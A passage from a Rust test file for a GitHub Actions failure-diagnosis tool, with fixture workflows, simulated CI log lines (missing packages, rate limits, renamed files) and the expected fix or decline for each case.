            "##[error]The hosted runner: GitHub Actions 41 lost communication with the server. Anything in your workflow that terminates the runner process, starves it for CPU/Memory, or blocks its network access can cause this error.",
        ],
        want: fix(&[CI], &["continue-on-error"]),
    },
    // ---- a composite action in the repository ----
    Case {
        name: "xmllint missing inside a composite action of the repository (it runs on the runner)",
        files: &[
            (
                CI,
                "on: push\njobs:\n  docs:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - uses: ./.github/actions/check-docs\n",
            ),
            (
                ".github/actions/check-docs/action.yml",
                "name: Check docs\ndescription: Validates the XML docs\nruns:\n  using: composite\n  steps:\n    - run: xmllint --noout docs/*.xml\n      shell: bash\n",
            ),
        ],
        workflow: Some(CI),
        job: "docs",
        step: "Run ./.github/actions/check-docs",
        lines: XMLLINT_IN_COMPOSITE,
        want: fix(&[CI, ".github/actions/check-docs/action.yml"], &["libxml2-utils"]),
    },
    // ---- a reusable workflow's caller ----
    Case {
        name: "module missing in a called workflow, the caller given as --workflow",
        files: &[
            (
                CI,
                "on: push\njobs:\n  lint:\n    uses: ./.github/workflows/lint.yml\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: make test\n",
            ),
            (
                ".github/workflows/lint.yml",
                "on:\n  workflow_call:\njobs:\n  schema:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - uses: actions/setup-python@v5\n        with:\n          python-version: '3.12'\n      - run: pip install ruff\n      - run: python scripts/check_schema.py\n",
            ),
        ],
        workflow: Some(CI),
        job: "lint / schema",
        step: "Run python scripts/check_schema.py",
        lines: NO_JSONSCHEMA,
        // Corrected after the first run: extending the job's own install line rewrites it.
        want: Want::Fix {
            files: &[".github/workflows/lint.yml"],
            adds: &["jsonschema"],
            removes: &["pip install ruff"],
        },
    },
    // ---- working-directory and defaults.run.shell ----
    Case {
        name: "requirements moved under the step's own working-directory",
        files: &[
            (
                CI,
                "on: push\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: pip install -r requirements-dev.txt\n        working-directory: backend\n",
            ),
            ("backend/requirements/dev.txt", "pytest\n"),
            ("backend/app.py", "print(1)\n"),
        ],
        workflow: Some(CI),
        job: "test",
        step: "Run pip install -r requirements-dev.txt",
        lines: DEV_REQUIREMENTS_MISSING,
        want: Want::Without(
            &Want::Fix {
                files: &[CI],
                adds: &["requirements/dev.txt"],
                removes: &["requirements-dev.txt"],
            },
            &["backend/requirements/dev.txt", "hashFiles"],
        ),
    },
    Case {
        name: "pandoc missing under a job's defaults.run.shell pwsh on Ubuntu",
        files: &[(
            CI,
            "on: push\njobs:\n  docs:\n    runs-on: ubuntu-latest\n    defaults:\n      run:\n        shell: pwsh\n    steps:\n      - uses: actions/checkout@v4\n      - run: pandoc README.md -o out.html\n",
        )],
        workflow: Some(CI),
        job: "docs",
        step: "Run pandoc README.md -o out.html",
        lines: PANDOC_PWSH_LINUX,
        want: Want::Without(&fix(&[CI], &["apt-get install -y pandoc"]), &["choco"]),
    },
    // ---- Windows cmd ----
    Case {
        name: "cmd reads `node_modules/.bin/eslint` as the command `node_modules`: no install",
        files: &[(
            CI,
            "on: push\njobs:\n  lint:\n    runs-on: windows-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: npm ci\n      - run: node_modules/.bin/eslint .\n        shell: cmd\n",
        )],
        workflow: Some(CI),
        job: "lint",
        step: "Run node_modules/.bin/eslint .",
        lines: CMD_NODE_MODULES_PATH,
        want: Want::Declined(""),
    },
    Case {
        name: "pandoc missing in a cmd step on Windows",
        files: &[(
            CI,
            "on: push\njobs:\n  docs:\n    runs-on: windows-latest\n    defaults:\n      run:\n        shell: cmd\n    steps:\n      - uses: actions/checkout@v4\n      - run: pandoc README.md -o out.html\n",
        )],
        workflow: Some(CI),
        job: "docs",
        step: "Run pandoc README.md -o out.html",
        lines: CMD_PANDOC,
        want: Want::Without(&fix(&[CI], &["choco install -y pandoc"]), &["apt-get"]),
    },
    // ---- needs chains and `if:` ----
    Case {
        name: "timeout of the middle job of a build -> integration -> deploy chain",
        files: &[(
            CI,
            "on: push\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - run: npm ci && npm run build\n  integration:\n    needs: build\n    if: github.event_name != 'schedule'\n    runs-on: ubuntu-latest\n    timeout-minutes: 20\n    steps:\n      - uses: actions/checkout@v4\n      - run: npm ci\n      - run: npm run test:integration\n  deploy:\n    needs: integration\n    runs-on: ubuntu-latest\n    timeout-minutes: 20\n    steps:\n      - run: ./deploy.sh\n",
        )],
        workflow: Some(CI),
        job: "integration",
        step: "Run npm run test:integration",
        lines: INTEGRATION_TIMED_OUT_20,
        want: Want::Fix {
            files: &[CI],
            adds: &["timeout-minutes: "],
            removes: &["    timeout-minutes: 20"],
        },
    },
    Case {
        name: "protoc missing in a step guarded by `if:`",
        files: &[(
            CI,
            "on: [push, pull_request]\njobs:\n  api:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - uses: actions/setup-go@v5\n        with:\n          go-version: '1.23'\n      - name: Generate\n        if: github.event_name == 'pull_request'\n        run: protoc --go_out=. api/*.proto\n",
        )],
        workflow: Some(CI),
        job: "api",
        step: "Generate",
        lines: PROTOC_MISSING,
        want: fix(&[CI], &["protobuf-compiler"]),
    },
    // ---- service containers ----
    Case {
        name: "redis-cli missing on the runner of a job with a redis service (the step runs on the runner)",
        files: &[(
            CI,
            "on: push\njobs:\n  test:\n    runs-on: ubuntu-latest\n    services:\n      redis:\n        image: redis:7\n        ports:\n          - 6379:6379\n    steps:\n      - uses: actions/checkout@v4\n      - run: redis-cli -h localhost ping\n",
        )],
        workflow: Some(CI),
        job: "test",
        step: "Run redis-cli -h localhost ping",
        lines: REDIS_CLI_MISSING,
        want: fix(&[CI], &["redis-tools"]),
    },
    Case {
        name: "a service container that never became healthy: no fix",
        files: &[(
            CI,
            "on: push\njobs:\n  test:\n    runs-on: ubuntu-latest\n    services:\n      postgres:\n        image: postgres:16\n        env:\n          POSTGRES_PASSWORD: postgres\n        ports:\n          - 5432:5432\n        options: --health-cmd pg_isready --health-interval 10s --health-timeout 5s --health-retries 5\n    steps:\n      - uses: actions/checkout@v4\n      - run: npm test\n",
        )],
        workflow: Some(CI),
        job: "test",
        step: "Initialize containers",
        lines: SERVICE_FAILED,
        want: Want::Declined(""),
    },
    // ---- self-hosted labels ----
    Case {
        name: "pandoc missing on a self-hosted runner with custom labels: no install",
        files: &[(
            CI,
            "on: push\njobs:\n  docs:\n    runs-on: [self-hosted, linux, x64, docs]\n    steps:\n      - uses: actions/checkout@v4\n      - run: pandoc README.md -o out.html\n",
        )],
        workflow: Some(CI),
        job: "docs",
        step: "Run pandoc README.md -o out.html",
        lines: PANDOC_SELF_HOSTED,
        want: Want::Declined("self-hosted"),
    },
    // ---- traps ----
    Case {
        name: "a cancel by the workflow's concurrency group is no timeout",
        files: &[(
            CI,
            "on: push\nconcurrency:\n  group: ci-${{ github.ref }}\n  cancel-in-progress: true\njobs:\n  test:\n    runs-on: ubuntu-latest\n    timeout-minutes: 30\n    steps:\n      - uses: actions/checkout@v4\n      - run: npm test\n",
        )],
        workflow: Some(CI),
        job: "test",
        step: "Run npm test",
        lines: CANCELED_BY_CONCURRENCY,
        want: Want::Declined(""),
    },
    Case {
        name: "pandoc missing in WSL's shell on a Windows runner: no choco install",
        files: &[(
            CI,
            "on: push\njobs:\n  docs:\n    runs-on: windows-latest\n    steps:\n      - uses: actions/checkout@v4\n      - uses: Vampire/setup-wsl@v3\n      - run: pandoc README.md -o out.html\n        shell: wsl-bash {0}\n",
        )],
        workflow: Some(CI),
        job: "docs",
        step: "Run pandoc README.md -o out.html",
        lines: PANDOC_IN_WSL,
        want: Want::Declined(""),
    },
    Case {
        name: "make missing in the Alpine leg of a job whose container image comes from the matrix",
        files: &[(
            CI,
            "on: push\njobs:\n  test:\n    strategy:\n      matrix:\n        image: ['debian:12', 'alpine:3.20']\n    runs-on: ubuntu-latest\n    container: ${{ matrix.image }}\n    steps:\n      - uses: actions/checkout@v4\n      - run: make test\n",
        )],
        workflow: Some(CI),
        job: "test (alpine:3.20)",
        step: "Run make test",
        lines: MAKE_IN_ALPINE_LEG,
        want: Want::Declined(""),
    },
];

#[test]
fn round_five_shapes_get_the_right_fix_or_a_reasoned_refusal() {
    assert_round(ROUND_5);
}

// ---- round 6: monorepos, workspaces, tox/nox, version matrices, container jobs, cache misses, rate limits in
// long steps, renamed files, reusable workflows called with inputs ----

const NO_YAML_IN_WORKER: &[&str] = &[
    "##[group]Run python -m pytest",
    "python -m pytest",
    "shell: /usr/bin/bash -e {0}",
    "env:",
    "  pythonLocation: /opt/hostedtoolcache/Python/3.12.7/x64",
    "##[endgroup]",
    "============================= test session starts ==============================",
    "platform linux -- Python 3.12.7, pytest-8.3.3, pluggy-1.5.0",
    "rootdir: /home/runner/work/platform/platform/services/worker",
    "collected 0 items / 1 error",
    "",
    "==================================== ERRORS ====================================",
    "____________________ ERROR collecting tests/test_jobs.py _____________________",
    "ImportError while importing test module '/home/runner/work/platform/platform/services/worker/tests/test_jobs.py'.",
    "Hint: make sure your test modules/packages have valid Python names.",
    "Traceback:",
    "/opt/hostedtoolcache/Python/3.12.7/x64/lib/python3.12/importlib/__init__.py:90: in import_module",
    "    return _bootstrap._gcd_import(name[level:], package, level)",
    "tests/test_jobs.py:4: in <module>",
    "    import yaml",
    "E   ModuleNotFoundError: No module named 'yaml'",
    "=========================== short test summary info ============================",
    "ERROR tests/test_jobs.py",
    "!!!!!!!!!!!!!!!!!!!! Interrupted: 1 error during collection !!!!!!!!!!!!!!!!!!!!",
    "=============================== 1 error in 0.21s ===============================",
    "##[error]Process completed with exit code 2.",
];

const COMPLETIONS_SCRIPT_MISSING: &[&str] = &[
    "##[group]Run bash scripts/gen-completions.sh",
    "bash scripts/gen-completions.sh",
    "shell: /usr/bin/bash -e {0}",
    "##[endgroup]",
    "bash: scripts/gen-completions.sh: No such file or directory",
    "##[error]Process completed with exit code 127.",
];

const PNPM_FILTER_VITE_MISSING: &[&str] = &[
    "##[group]Run pnpm --filter @acme/web build",
    "pnpm --filter @acme/web build",
    "shell: /usr/bin/bash -e {0}",
    "env:",
    "  PNPM_HOME: /home/runner/setup-pnpm/node_modules/.bin",
    "##[endgroup]",
    "",
    "> @acme/web@0.4.0 build /home/runner/work/acme/acme/apps/web",
    "> vite build",
    "",
    "sh: 1: vite: not found",
    "/home/runner/work/acme/acme/apps/web:",
    "\u{2009}ERR_PNPM_RECURSIVE_RUN_FIRST_FAIL\u{2009} @acme/web@0.4.0 build: `vite build`",
    "spawn ENOENT",
    "\u{2009}WARN\u{2009}  Local package.json exists, but node_modules missing, did you mean to install?",
    "##[error]Process completed with exit code 1.",
];

const YARN_WORKSPACE_NO_SUPERTEST: &[&str] = &[
    "##[group]Run yarn workspace @acme/api test",
    "yarn workspace @acme/api test",
    "shell: /usr/bin/bash -e {0}",
    "##[endgroup]",
    "yarn workspace v1.22.22",
    "yarn run v1.22.22",
    "$ jest --ci",
    "FAIL src/app.test.ts",
    "  \u{25cf} Test suite failed to run",
    "",
    "    Cannot find module 'supertest' from 'src/app.test.ts'",
    "",
    "    > 1 | import request from 'supertest';",
    "        | ^",
    "",
    "Test Suites: 1 failed, 3 passed, 4 total",
    "Tests:       12 passed, 12 total",
    "error Command failed with exit code 1.",
    "info Visit https://yarnpkg.com/en/docs/cli/run for documentation about this command.",
    "error Command failed.",
    "Exit code: 1",
    "Command: /usr/local/bin/node",
    "Arguments: /usr/local/lib/node_modules/yarn/lib/cli.js test",
    "Directory: /home/runner/work/acme/acme/packages/api",
    "Output:",
    "",
    "info Visit https://yarnpkg.com/en/docs/cli/workspace for documentation about this command.",
    "##[error]Process completed with exit code 1.",
];

const TOX_NO_YAML: &[&str] = &[
    "##[group]Run tox -e py312",
    "tox -e py312",
    "shell: /usr/bin/bash -e {0}",
    "##[endgroup]",
    "py312: install_deps> python -I -m pip install pytest",
    "py312: commands[0]> pytest tests",
    "============================= test session starts ==============================",
    "ImportError while loading conftest '/home/runner/work/lib/lib/tests/conftest.py'.",
    "tests/conftest.py:2: in <module>",
    "    import yaml",
    "E   ModuleNotFoundError: No module named 'yaml'",
    "py312: exit 4 (0.41 seconds) /home/runner/work/lib/lib> pytest tests pid=2231",
    "  py312: FAIL code 4 (6.02=setup[5.61]+cmd[0.41] seconds)",
    "  evaluation failed :( (6.10 seconds)",
    "##[error]Process completed with exit code 4.",
];

const NOX_NO_YAML: &[&str] = &[
    "##[group]Run nox -s tests-3.12",
    "nox -s tests-3.12",
    "shell: /usr/bin/bash -e {0}",
    "##[endgroup]",
    "nox > Running session tests-3.12",
    "nox > Creating virtual environment (virtualenv) using python3.12 in .nox/tests-3-12",
    "nox > python -m pip install -r requirements-test.txt",
    "nox > pytest tests",
    "ImportError while loading conftest '/home/runner/work/lib/lib/tests/conftest.py'.",
    "tests/conftest.py:2: in <module>",
    "    import yaml",
    "E   ModuleNotFoundError: No module named 'yaml'",
    "nox > Command pytest tests failed with exit code 4",
    "nox > Session tests-3.12 failed.",
    "##[error]Process completed with exit code 1.",
];

const NO_DISTUTILS_ON_312_LEG: &[&str] = &[
    "##[group]Run python setup.py build_ext --inplace",
    "python setup.py build_ext --inplace",
    "shell: /usr/bin/bash -e {0}",
    "env:",
    "  pythonLocation: /opt/hostedtoolcache/Python/3.12.7/x64",
    "  LD_LIBRARY_PATH: /opt/hostedtoolcache/Python/3.12.7/x64/lib",
    "##[endgroup]",
    "Traceback (most recent call last):",
    "  File \"/home/runner/work/fastext/fastext/setup.py\", line 1, in <module>",
    "    from distutils.core import setup, Extension",
    "ModuleNotFoundError: No module named 'distutils'",
    "##[error]Process completed with exit code 1.",
];

const MAKE_MISSING_NON_ROOT_CONTAINER: &[&str] = &[
    "##[group]Run make docs",
    "make docs",
    "shell: sh -e {0}",
    "##[endgroup]",
    "/__w/_temp/6c1f0e2d-7a8b-4c9d-8e0f-1a2b3c4d5e6f.sh: 1: make: not found",
    "##[error]Process completed with exit code 127.",
];

const CACHE_MISS_FAIL_ON_MISS: &[&str] = &[
    "##[group]Run actions/cache/restore@v4",
    "with:",
    "  path: dist",
    "  key: dist-3f9c2e1d8b7a6f5e4d3c2b1a0f9e8d7c6b5a4f3e",
    "  fail-on-cache-miss: true",
    "  enableCrossOsArchive: false",
    "  lookup-only: false",
    "##[endgroup]",
    "##[error]Failed to restore cache entry. Exiting as fail-on-cache-miss is set. Input key: dist-3f9c2e1d8b7a6f5e4d3c2b1a0f9e8d7c6b5a4f3e",
];

const SETUP_NODE_LOCK_NOT_AT_ROOT: &[&str] = &[
    "##[group]Run actions/setup-node@v4",
    "with:",
    "  node-version: 20",
    "  cache: npm",
    "  always-auth: false",
    "  check-latest: false",
    "  token: ***",
    "##[endgroup]",
    "Found in cache @ /opt/hostedtoolcache/node/20.18.0/x64",
    "Environment details",
    "  node: v20.18.0",
    "  npm: 10.8.2",
    "  yarn: 1.22.22",
    "/usr/local/bin/npm config get cache",
    "/home/runner/.npm",
    "##[error]Dependencies lock file is not found in /home/runner/work/site/site. Supported file patterns: package-lock.json,npm-shrinkwrap.json,yarn.lock",
];

const NPM_429_IN_LONG_STEP: &[&str] = &[
    "##[group]Run npm ci",
    "npm ci",
    "npm run build",
    "npm test -- --ci",
    "shell: /usr/bin/bash -e {0}",
    "##[endgroup]",
    "npm warn deprecated inflight@1.0.6: This module is not supported, and leaks memory.",
    "npm warn deprecated glob@7.2.3: Glob versions prior to v9 are no longer supported",
    "npm error code E429",
    "npm error 429 Too Many Requests - GET https://registry.npmjs.org/@babel/core/-/core-7.25.2.tgz",
    "npm error A complete log of this run can be found in: /home/runner/.npm/_logs/2024-05-02T10_00_41_201Z-debug-0.log",
    "##[error]Process completed with exit code 1.",
];

const PYPI_429_THEN_TESTS_ONE_LINE: &[&str] = &[
    "##[group]Run pip install -r requirements.txt && pytest -q",
    "pip install -r requirements.txt && pytest -q",
    "shell: /usr/bin/bash -e {0}",
    "env:",
    "  pythonLocation: /opt/hostedtoolcache/Python/3.12.7/x64",
    "##[endgroup]",
    "Collecting numpy==2.1.0 (from -r requirements.txt (line 3))",
    "  Downloading numpy-2.1.0-cp312-cp312-manylinux_2_17_x86_64.manylinux2014_x86_64.whl.metadata (60 kB)",
    "ERROR: HTTP error 429 while getting https://files.pythonhosted.org/packages/0a/1b/numpy-2.1.0-cp312-cp312-manylinux_2_17_x86_64.manylinux2014_x86_64.whl",
    "ERROR: Could not install requirement numpy==2.1.0 from https://files.pythonhosted.org/packages/0a/1b/numpy-2.1.0-cp312-cp312-manylinux_2_17_x86_64.manylinux2014_x86_64.whl because of HTTP error 429 Client Error: Too Many Requests for url: https://files.pythonhosted.org/packages/0a/1b/numpy-2.1.0-cp312-cp312-manylinux_2_17_x86_64.manylinux2014_x86_64.whl for URL https://files.pythonhosted.org/packages/0a/1b/numpy-2.1.0-cp312-cp312-manylinux_2_17_x86_64.manylinux2014_x86_64.whl",
    "##[error]Process completed with exit code 1.",
];

const GHCR_429_MID_STEP: &[&str] = &[
    "##[group]Run ./scripts/prepare-fixtures.sh",
    "./scripts/prepare-fixtures.sh",
    "docker pull ghcr.io/acme/fixtures-db:2024.05",
    "docker run -d --name fixtures -p 5432:5432 ghcr.io/acme/fixtures-db:2024.05",
    "shell: /usr/bin/bash -e {0}",
    "##[endgroup]",
    "preparing fixtures: 14 tables",
    "Error response from daemon: Head \"https://ghcr.io/v2/acme/fixtures-db/manifests/2024.05\": toomanyrequests: retry-after: 694.56\u{b5}s, allowed: 44000/minute",
    "##[error]Process completed with exit code 1.",
];

const MAVEN_CENTRAL_429_IN_VERIFY: &[&str] = &[
    "##[group]Run ./mvnw -B verify",
    "./mvnw -B verify",
    "shell: /usr/bin/bash -e {0}",
    "env:",
    "  JAVA_HOME: /opt/hostedtoolcache/Java_Temurin-Hotspot_jdk/21.0.4-7/x64",
    "##[endgroup]",
    "[INFO] Scanning for projects...",
    "[INFO] ------------------------< com.acme:orders-api >-------------------------",
    "[INFO] Building orders-api 1.8.0-SNAPSHOT",
    "[INFO] --------------------------------[ jar ]---------------------------------",
    "Downloading from central: https://repo.maven.apache.org/maven2/org/apache/commons/commons-lang3/3.14.0/commons-lang3-3.14.0.jar",
    "[INFO] ------------------------------------------------------------------------",
    "[INFO] BUILD FAILURE",
    "[INFO] ------------------------------------------------------------------------",
    "[ERROR] Failed to execute goal on project orders-api: Could not resolve dependencies for project com.acme:orders-api:jar:1.8.0-SNAPSHOT: Could not transfer artifact org.apache.commons:commons-lang3:jar:3.14.0 from/to central (https://repo.maven.apache.org/maven2): status code: 429, reason phrase: Too Many Requests (429) -> [Help 1]",
    "##[error]Process completed with exit code 1.",
];

const PROD_SETTINGS_MISSING: &[&str] = &[
    "##[group]Run cp config/settings.production.yml deploy/settings.yml",
    "cp config/settings.production.yml deploy/settings.yml",
    "shell: /usr/bin/bash -e {0}",
    "##[endgroup]",
    "cp: cannot stat 'config/settings.production.yml': No such file or directory",
    "##[error]Process completed with exit code 1.",
];

const CALLEE_REQUIREMENTS_MISSING: &[&str] = &[
    "##[group]Run pip install -r requirements.txt",
    "pip install -r requirements.txt",
    "shell: /usr/bin/bash -e {0}",
    "##[endgroup]",
    "ERROR: Could not open requirements file: [Errno 2] No such file or directory: 'requirements.txt'",
    "##[error]Process completed with exit code 1.",
];

const PANDOC_IN_CALLEE: &[&str] = &[
    "##[group]Run pandoc docs/index.md -o site/index.html",
    "pandoc docs/index.md -o site/index.html",
    "shell: /usr/bin/bash -e {0}",
    "##[endgroup]",
    "/home/runner/work/_temp/5d4c3b2a-1f0e-4d9c-8b7a-6f5e4d3c2b1a.sh: line 1: pandoc: command not found",
    "##[error]Process completed with exit code 127.",
];

const DOCS_CALLEE: &str = ".github/workflows/docs.yml";
const TEST_CALLEE: &str = ".github/workflows/python-tests.yml";

/// Each outcome decided from issue 12's definitions before the first run.
const ROUND_6: &[Case] = &[
    // ---- monorepos: a working directory per package ----
    Case {
        name: "module missing in one package of a matrix over monorepo packages (working-directory from the matrix)",
        files: &[
            (
                CI,
                "on: push\njobs:\n  test:\n    strategy:\n      matrix:\n        package: [api, worker]\n    runs-on: ubuntu-latest\n    defaults:\n      run:\n        working-directory: services/${{ matrix.package }}\n    steps:\n      - uses: actions/checkout@v4\n      - uses: actions/setup-python@v5\n        with:\n          python-version: '3.12'\n      - run: pip install -r requirements.txt\n      - run: python -m pytest\n",
            ),
            ("services/api/requirements.txt", "fastapi\npytest\n"),
            ("services/worker/requirements.txt", "celery\npytest\n"),
            ("requirements.txt", "pre-commit\n"),
        ],
        workflow: Some(CI),
        job: "test (worker)",
        step: "Run python -m pytest",
        lines: NO_YAML_IN_WORKER,
        // The worker's own list, or the shared install line (harmless on the api leg); never the api's list or
        // the root's.
        want: Want::Fix {
            files: &[CI, "services/worker/requirements.txt"],
            adds: &["PyYAML"],
            removes: &["pip install -r requirements.txt"],
        },
    },
    Case {
        name: "script renamed within its package, a sibling package still has the old name",
        files: &[
            (
                CI,
                "on: push\njobs:\n  cli:\n    runs-on: ubuntu-latest\n    defaults:\n      run:\n        working-directory: packages/cli\n    steps:\n      - uses: actions/checkout@v4\n      - run: bash scripts/gen-completions.sh\n",
            ),
            ("packages/cli/scripts/gen_completions.sh", "#!/bin/sh\necho cli\n"),
            ("packages/server/scripts/gen-completions.sh", "#!/bin/sh\necho server\n"),
        ],
        workflow: Some(CI),
        job: "cli",
        step: "Run bash scripts/gen-completions.sh",
        lines: COMPLETIONS_SCRIPT_MISSING,
        // The package's renamed script is the clear rename; the sibling's file is another package's script.
        want: Want::Without(
            &Want::Either {
                files: &[CI],
                adds: &["scripts/gen_completions.sh"],
                removes: &["scripts/gen-completions.sh"],
            },
            &["packages/server", "hashFiles"],
        ),
    },
    // ---- pnpm and yarn workspaces ----
    Case {
        name: "vite missing in a pnpm workspace package's script: the package's dependency, no system install",
        files: &[(
            CI,
            "on: push\njobs:\n  web:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - uses: pnpm/action-setup@v4\n        with:\n          version: 9\n      - uses: actions/setup-node@v4\n        with:\n          node-version: 20\n      - run: pnpm --filter @acme/web build\n",
        )],
        workflow: Some(CI),
        job: "web",
        step: "Run pnpm --filter @acme/web build",
        lines: PNPM_FILTER_VITE_MISSING,
        want: Want::Declined(""),
    },
    Case {
        name: "supertest missing in a yarn workspace's tests: the package's manifest, no install step",
        files: &[(
            CI,
            "on: push\njobs:\n  api:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - uses: actions/setup-node@v4\n        with:\n          node-version: 20\n          cache: yarn\n      - run: yarn install --frozen-lockfile\n      - run: yarn workspace @acme/api test\n",
        )],
        workflow: Some(CI),
        job: "api",
        step: "Run yarn workspace @acme/api test",
        lines: YARN_WORKSPACE_NO_SUPERTEST,
        want: Want::Declined(""),
    },
    // ---- tox and nox sessions ----
    Case {
        name: "module missing inside a tox environment: never a pip install on the runner",
        files: &[
            (
                CI,
                "on: push\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - uses: actions/setup-python@v5\n        with:\n          python-version: '3.12'\n      - run: pip install tox\n      - run: tox -e py312\n",
            ),
            (
                "tox.ini",
                "[tox]\nenv_list = py312\n\n[testenv]\ndeps = pytest\ncommands = pytest tests\n",
            ),
        ],
        workflow: Some(CI),
        job: "test",
        step: "Run tox -e py312",
        lines: TOX_NO_YAML,
        want: Want::Without(&either(&["tox.ini"], &["PyYAML"]), &["pip install"]),
    },
    Case {
        name: "module missing inside a nox session that installs a requirements file",
        files: &[
            (
                CI,
                "on: push\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - uses: actions/setup-python@v5\n        with:\n          python-version: '3.12'\n      - run: pip install nox\n      - run: nox -s tests-3.12\n",
            ),
            (
                "noxfile.py",
                "import nox\n\n\n@nox.session(python=[\"3.11\", \"3.12\"])\ndef tests(session):\n    session.install(\"-r\", \"requirements-test.txt\")\n    session.run(\"pytest\", \"tests\")\n",
            ),
            ("requirements-test.txt", "pytest\n"),
        ],
        workflow: Some(CI),
        job: "test",
        step: "Run nox -s tests-3.12",
        lines: NOX_NO_YAML,
        want: Want::Without(&either(&["requirements-test.txt"], &["PyYAML"]), &["pip install"]),
    },
    // ---- setup-* version matrices ----
    Case {
        name: "distutils missing on the 3.12 leg of a setup-python version matrix",
        files: &[(
            CI,
            "on: push\njobs:\n  build:\n    strategy:\n      matrix:\n        python-version: ['3.10', '3.11', '3.12']\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - uses: actions/setup-python@v5\n        with:\n          python-version: ${{ matrix.python-version }}\n      - run: pip install cython\n      - run: python setup.py build_ext --inplace\n",
        )],
        workflow: Some(CI),
        job: "build (3.12)",
        step: "Run python setup.py build_ext --inplace",
        lines: NO_DISTUTILS_ON_312_LEG,
        // setuptools provides distutils from 3.12 and is harmless on the older legs; the leg's Python is never
        // lowered.
        want: Want::Without(
            &Want::Fix {
                files: &[CI],
                adds: &["setuptools"],
                removes: &["pip install cython"],
            },
            &["python-version: '3.11'"],
        ),
    },
    // ---- container: jobs ----
    Case {
        name: "make missing in a container job that runs as a non-root user without sudo: no apt install",
        files: &[(
            CI,
            "on: push\njobs:\n  docs:\n    runs-on: ubuntu-latest\n    container:\n      image: python:3.12-slim\n      options: --user 1001\n    steps:\n      - uses: actions/checkout@v4\n      - run: make docs\n        shell: sh\n",
        )],
        workflow: Some(CI),
        job: "docs",
        step: "Run make docs",
        lines: MAKE_MISSING_NON_ROOT_CONTAINER,
        want: Want::Declined(""),
    },
    // ---- cache restore misses ----
    Case {
        name: "a cache restore that must hit missed (fail-on-cache-miss): no file or path fix",
        files: &[(
            CI,
            "on: push\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: npm ci && npm run build\n      - uses: actions/cache/save@v4\n        with:\n          path: dist\n          key: dist-${{ github.sha }}\n  e2e:\n    needs: build\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - uses: actions/cache/restore@v4\n        with:\n          path: dist\n          key: dist-${{ github.sha }}\n          fail-on-cache-miss: true\n      - run: npm run e2e\n",
        )],
        workflow: Some(CI),
        job: "e2e",
        step: "Run actions/cache/restore@v4",
        lines: CACHE_MISS_FAIL_ON_MISS,
        want: Want::Declined(""),
    },
    Case {
        name: "setup-node's npm cache finds no lock file at the root of a repository whose app is in frontend/",
        files: &[
            (
                CI,
                "on: push\njobs:\n  site:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - uses: actions/setup-node@v4\n        with:\n          node-version: 20\n          cache: npm\n      - run: npm ci\n        working-directory: frontend\n",
            ),
            ("frontend/package.json", "{\"name\": \"site\", \"private\": true}\n"),
            (
                "frontend/package-lock.json",
                "{\"name\": \"site\", \"lockfileVersion\": 3}\n",
            ),
        ],
        workflow: Some(CI),
        job: "site",
        step: "Run actions/setup-node@v4",
        lines: SETUP_NODE_LOCK_NOT_AT_ROOT,
        want: Want::Without(&either(&[CI], &["frontend/package-lock.json"]), &["hashFiles"]),
    },
    // ---- rate limits in the middle of a long step ----
    Case {
        name: "npm 429 during `npm ci` of a block that then builds and tests: the retry wraps npm ci only",
        files: &[(
            CI,
            "on: push\njobs:\n  web:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - uses: actions/setup-node@v4\n        with:\n          node-version: 20\n      - run: |\n          npm ci\n          npm run build\n          npm test -- --ci\n",
        )],
        workflow: Some(CI),
        job: "web",
        step: "Run npm ci",
        lines: NPM_429_IN_LONG_STEP,
        want: Want::Without(
            &Want::Either {
                files: &[CI],
                adds: &["npm ci"],
                removes: &["npm ci"],
            },
            &["npm run build", "npm test"],
        ),
    },
    Case {
        name: "PyPI 429 in `pip install … && pytest` on one line: no loop that reruns the tests",
        files: &[
            (
                CI,
                "on: push\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - uses: actions/setup-python@v5\n        with:\n          python-version: '3.12'\n      - run: pip install -r requirements.txt && pytest -q\n",
            ),
            ("requirements.txt", "requests\npytest\nnumpy==2.1.0\n"),
        ],
        workflow: Some(CI),
        job: "test",
        step: "Run pip install -r requirements.txt && pytest -q",
        lines: PYPI_429_THEN_TESTS_ONE_LINE,
        // A cache of setup-python is right; a loop around the line would run pytest again after a real failure.
        want: Want::Without(&either(&[CI], &["cache"]), &["pytest"]),
    },
    Case {
        name: "GHCR 429 on a `docker pull` in the middle of a block: a GHCR login or a retried pull, never a Docker Hub fix",
        files: &[
            (
                CI,
                "on: push\njobs:\n  integration:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: |\n          ./scripts/prepare-fixtures.sh\n          docker pull ghcr.io/acme/fixtures-db:2024.05\n          docker run -d --name fixtures -p 5432:5432 ghcr.io/acme/fixtures-db:2024.05\n",
            ),
            (
                "scripts/prepare-fixtures.sh",
                "#!/bin/sh\necho preparing fixtures: 14 tables\n",
            ),
        ],
        workflow: Some(CI),
        job: "integration",
        step: "Run ./scripts/prepare-fixtures.sh",
        lines: GHCR_429_MID_STEP,
        // Corrected after the first run: a retry loop replaces the pull's own line.
        want: Want::Without(
            &Want::Either {
                files: &[CI],
                adds: &["ghcr.io"],
                removes: &["docker pull ghcr.io/acme/fixtures-db:2024.05"],
            },
            &["DOCKERHUB", "docker.io"],
        ),
    },
    Case {
